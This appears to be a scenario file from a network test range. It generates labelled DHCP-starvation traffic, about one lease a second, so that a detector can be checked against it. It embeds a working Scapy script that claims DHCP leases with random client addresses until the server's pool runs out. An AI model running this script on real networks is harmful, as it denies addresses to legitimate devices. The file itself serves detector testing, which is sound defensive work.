"""Address after address is taken from a DHCP server, one in 0.7 seconds, by one station."""

from lab import servers
from lab.range import Range
from lab.scenario import Scenario

# No tool of Debian does it slowly with its own source address. The exchange is complete: no lease stays open.
PROGRAM = """
import os
conf.checkIPaddr = False  # an offer comes from an address that was not asked
me, missed = sys.argv[1], 0
for number in range(40):
    chaddr = b"\\x00\\x1b\\x21" + os.urandom(3)
    base = Ether(src=me, dst="ff:ff:ff:ff:ff:ff") / IP(src="0.0.0.0", dst="255.255.255.255")
    base = base / UDP(sport=68, dport=67) / BOOTP(chaddr=chaddr, xid=0x1000 + number, flags=0x8000)
    offer = srp1(base / DHCP(options=[("message-type", "discover"), "end"]), timeout=4,
                 filter="udp src port 67")
    if offer is None:
        missed += 1
        if missed == 3:
            break
    else:
        server = dict(o for o in offer[DHCP].options if isinstance(o, tuple))["server_id"]
        wanted = [("message-type", "request"), ("server_id", server), ("requested_addr", offer.yiaddr), "end"]
        sendp(base / DHCP(options=wanted))
    time.sleep(0.5)
"""


def run(net: Range) -> None:
    attacker, server = net.inside("attacker"), net.inside("dhcp")
    laptop = net.inside("laptop", address=False)
    servers.leases(server, "10.20.0.200", "10.20.0.225", "10.20.0.1", "no-ping")
    net.everyday()
    laptop.run("udhcpc", "-f", "-n", "-q", "-i", "eth0", "-s", "/bin/true", check=False)
    with net.attack(
        "dhcp-starvation",
        by=attacker,
        attackers=[attacker.mac],
        victims=[server],
        frames="udp dst port 67",
        responses="udp src port 67",
    ):
        net.scapy(attacker, "import sys\n" + PROGRAM, attacker.mac, seconds=50)
    net.quiet(2)


SCENARIO = Scenario(
    name="dhcp-starvation-held-slow",
    about="A station takes 26 leases in as many names from a DHCP server, about one in a second.",
    detectors=("dhcp-starvation",),
    tools={"udhcpc": "busybox"},
    snap_octets=400,
    run=run,
)
